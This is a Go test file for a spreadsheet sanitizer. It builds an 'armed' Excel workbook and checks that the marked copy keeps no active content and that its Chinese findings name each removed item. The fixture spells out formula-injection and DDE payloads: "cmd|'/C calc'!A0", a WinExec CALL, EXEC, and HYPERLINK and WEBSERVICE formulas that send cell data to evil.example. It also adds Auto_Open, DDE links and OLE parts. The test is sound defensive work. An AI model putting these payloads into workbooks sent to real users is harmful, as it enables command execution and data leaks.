package mark

import (
	"bytes"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"taizhang/sheets/ooxml"
	"taizhang/sheets/ooxml/packagecheck"
	"taizhang/templates/finding"
)

const officeRels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

// armed is a workbook that does everything it can when it is opened.
func armed(t *testing.T) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	for cell, formula := range map[string]string{
		"B2": `HYPERLINK("http://evil.example/?x="&A2,"点这里")`, "B3": "cmd|'/C calc'!A0", "B4": "[1]Sheet1!A1", "B5": `WEBSERVICE("http://evil.example")`,
		"B6": `'C:\temp\[账.xlsx]表'!A1`, "B7": `CALL("Kernel32","WinExec","JCJ","calc",0)`, "B8": "EXEC(\"calc\")", "B9": `_xlfn.IMAGE("http://evil.example/a.png")`,
		"C2": "A2*2", "C3": `IF(COUNTIF(A:A,"x|y")>0,SUM(A2:A9),"[1]")`, "C4": "'表 二'!A1+1",
	} {
		if err := f.SetCellFormula("Sheet1", cell, formula); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := f.NewSheet("表 二"); err != nil {
		t.Fatal(err)
	}
	f.SetCellValue("Sheet1", "A2", 7)
	f.SetCellHyperLink("Sheet1", "A3", "http://evil.example/", "External")
	f.SetCellHyperLink("Sheet1", "A4", "Sheet1!A1", "Location")
	f.SetDefinedName(&excelize.DefinedName{Name: "Auto_Open", RefersTo: "Sheet1!$A$1"})
	f.SetDefinedName(&excelize.DefinedName{Name: "好的", RefersTo: "Sheet1!$A$1"})
	dv := excelize.NewDataValidation(true)
	dv.Sqref = "D2:D9"
	dv.SetSqrefDropList("[2]表!$A$1:$A$9")
	f.AddDataValidation("Sheet1", dv)
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		t.Fatal(err)
	}
	p, err := ooxml.Open(b.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	add := func(to, kind, name, contentType, text string) string {
		p.Set(name, []byte(text))
		if err := p.SetType(name, contentType); err != nil {
			t.Fatal(err)
		}
		id, err := p.AddRel(to, kind, name)
		if err != nil {
			t.Fatal(err)
		}
		return id
	}
	const main, sheet = "xl/workbook.xml", "xl/worksheets/sheet1.xml"
	add(main, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", "MACRO")
	link := add(main, officeRels+"externalLink", "xl/externalLinks/externalLink1.xml", typeBase+"externalLink+xml",
		`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`)
	add(main, officeRels+"connections", "xl/connections.xml", typeBase+"connections+xml", `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" odcFile="http://evil.example"/></connections>`)
	add("", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml", "application/xml", "<customUI onLoad=\"MACRO\"/>")
	ole := add(sheet, officeRels+"oleObject", "xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", "MACRO")
	add(sheet, "http://example.org/relationships/neverHeardOf", "xl/strange.xml", "application/xml", "<strange MACRO=\"1\"/>")
	edit := func(part, before, text string) {
		b, err := p.Read(part)
		if err != nil || !bytes.Contains(b, []byte(before)) {
			t.Fatal(part, err)
		}
		p.Set(part, bytes.Replace(b, []byte(before), []byte(text+before), 1))
	}
	edit(main, "<definedNames>", `<externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="`+link+`"/></externalReferences>`)
	edit(sheet, "</worksheet>", `<oleObjects><oleObject progId="Package" shapeId="1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="`+ole+`"/></oleObjects>`)
	if err := p.SetType(main, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := p.Write(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestMarkedCopiesDoNothing(t *testing.T) {
	var b bytes.Buffer
	taken, err := Write(&b, armed(t), "社区一", []finding.Finding{{Severity: finding.Error, Code: "R-01", Sheet: "Sheet1", Cell: "A2", Message: "不对。"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range packagecheck.Check(b.Bytes()) {
		t.Error(p)
	}
	p, err := ooxml.Open(b.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range p.Names() {
		text, _ := p.Read(name)
		for _, trace := range []string{"evil.example", "MACRO", "calc'", "WinExec", "ddeLink", "[1]Sheet", "账.xlsx", "Auto_Open", "[2]", "macroEnabled", "neverHeardOf", "oleObject", "TargetMode"} {
			if (strings.Contains(string(text), trace) || strings.Contains(name, trace)) && !strings.Contains(name, "sheet_list") {
				t.Errorf("%s holds %s", name, trace)
			}
		}
	}
	f := openFile(t, b.Bytes())
	for cell, want := range map[string]string{"C2": "A2*2", "C3": `IF(COUNTIF(A:A,"x|y")>0,SUM(A2:A9),"[1]")`, "C4": "'表 二'!A1+1", "B2": "", "B3": ""} {
		if got, _ := f.GetCellFormula("Sheet1", cell); got != want {
			t.Errorf("%s is %q, want %q", cell, got, want)
		}
	}
	if ok, target, _ := f.GetCellHyperLink("Sheet1", "A4"); !ok || target != "Sheet1!A1" {
		t.Error("a link within the workbook is gone")
	}
	said := ""
	for _, x := range taken {
		said += x.Sheet + " " + x.Cell + " " + x.Message + "\n"
	}
	for _, want := range []string{"宏，", "外部链接（含 DDE）", "数据连接", "嵌入的对象", "指向别处的超链接", "自定义功能区", "不认识的部件（neverHeardOf）", "Sheet1 B2 报来的表里有引用别的文件、能打开别处或执行别的程序的公式", "指向别处的名称", "引用别的文件的规则"} {
		if !strings.Contains(said, want) {
			t.Errorf("%q is not named in\n%s", want, said)
		}
	}
}

// A workbook without anything of the kind loses nothing.
func TestHarmlessWorkbooksStay(t *testing.T) {
	taken, err := Write(io.Discard, sample(t, 6), "社区一", sampleFindings())
	if err != nil {
		t.Fatal(err)
	}
	for _, x := range taken {
		t.Error(x.Message)
	}
}

func TestFormulasThatReachOut(t *testing.T) {
	for formula, want := range map[string]bool{
		"SUM(A1:A9)": false, "IF(A1>0,\"[a.xlsx]|\",'表 1'!B2)": false, "Table1[金额]*2": false, "_xlfn.XLOOKUP(A1,B:B,C:C)": false,
		"hyperlink(\"x\")": true, "HYPERLINK (\"x\")": true, "[3]A!B1": true, "[b.xls]A!B1": true, "'[b.xlsx]A'!B1": true, "'\\\\host\\a'!B1": true, "a|b!c": true,
		"RTD(\"a\",,\"b\")": true, "INDIRECT(A1)": true, "自定义(A1)": true, "REGISTER.ID(\"a\")": true, "_xlfn.WEBSERVICE(A1)": true,
	} {
		if got := reachesOut(formula); got != want {
			t.Errorf("%s: %v", formula, got)
		}
	}
}
